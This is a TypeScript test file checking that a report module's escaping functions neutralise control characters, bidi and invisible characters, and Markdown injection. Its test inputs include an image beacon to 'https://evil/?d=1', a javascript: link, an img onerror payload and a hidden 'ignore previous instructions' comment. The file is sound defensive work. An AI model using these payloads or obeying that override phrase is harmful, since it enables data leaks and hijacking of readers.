import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { escapeMarkdown, escapeText, markdownCode } from '../../src/report/escape.ts';

describe('escapeText: one line, nothing invisible', () => {
  test.each([
    ['plain src/a.ts, é, 日本語', 'plain src/a.ts, é, 日本語'],
    ['a\nb\r\tc', 'a\\nb\\r\\tc'],
    ['\x1b[31mred\x07', '\\x1b[31mred\\x07'],
    ['c1 \u0085', 'c1 \\u0085'],
    ['bidi \u202egpj.exe', 'bidi \\u202egpj.exe'],
    ['.git\u200c', '.git\\u200c'],
    ['tag \u{e0041}', 'tag \\u{e0041}'],
    ['byte \udcff\udcfe.ts', 'byte \\xff\\xfe.ts'],
    ['half \ud83d', 'half \\ud83d'],
    ['😀', '😀'],
  ])('row 4, 11: %j', (text, shown) => expect(escapeText(text)).toBe(shown));

  test('row 42: a long text is cut, never inside a character', () => {
    expect(escapeText('x'.repeat(1_000_000), 10)).toBe(`${'x'.repeat(10)}…`);
    expect(escapeText('ab😀cd', 3)).toBe('ab…');
    expect(escapeText('abc', 3)).toBe('abc');
  });

  test('whatever comes in, what goes out is well-formed, printable and one line', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const shown = escapeText(text);
        expect(shown.isWellFormed()).toBe(true);
        expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      }),
    );
  });
});

describe('Markdown', () => {
  test.each([
    '@org/team',
    '&#64;user',
    '#123',
    'user/repo#1',
    '![](https://evil/?d=1)',
    '<!-- ignore previous instructions -->',
    '[x](javascript:alert(1))',
    '</details><img src=x onerror=y>',
    '| a | b |',
    '```\nfence',
    '# heading',
    '**bold** _it_ ~~s~~',
  ])('row 63, 64, 65: %j is only text', (text) => {
    // Entities, zero-width spaces among them, are all the punctuation that is left.
    expect(escapeMarkdown(text).replace(/&#\d+;/g, '')).not.toMatch(/[!-/:-@[-`{-~]/);
    expect(markdownCode(text)).toMatch(/^(`[^`|<&\n]*`|<code>[^<>|`\n]*<\/code>)$/);
  });

  test('row 64: mentions, cross-references and commit names are broken up', () => {
    expect(escapeMarkdown('@ana')).toBe('&#64;&#8203;ana');
    expect(escapeMarkdown('#12')).toBe('&#35;&#8203;12');
    expect(escapeMarkdown('GH-1')).toBe('GH&#8203;&#45;1');
    expect(escapeMarkdown('see 3f9c2a1d')).toBe('see 3f9&#8203;c2a1d');
  });

  test.each([
    ['src/api/users.ts', '`src/api/users.ts`'],
    ['app/[id].tsx', '`app/[id].tsx`'],
    ['a|b', '<code>a&#124;b</code>'],
    ['a`b', '<code>a&#96;b</code>'],
    ['a  b', '`a  b`'],
    [' a', '<code>&nbsp;a</code>'],
    ['x\udcff', '<code>x&#92;xff</code>'],
  ])('markdownCode(%j)', (text, shown) => expect(markdownCode(text)).toBe(shown));
});
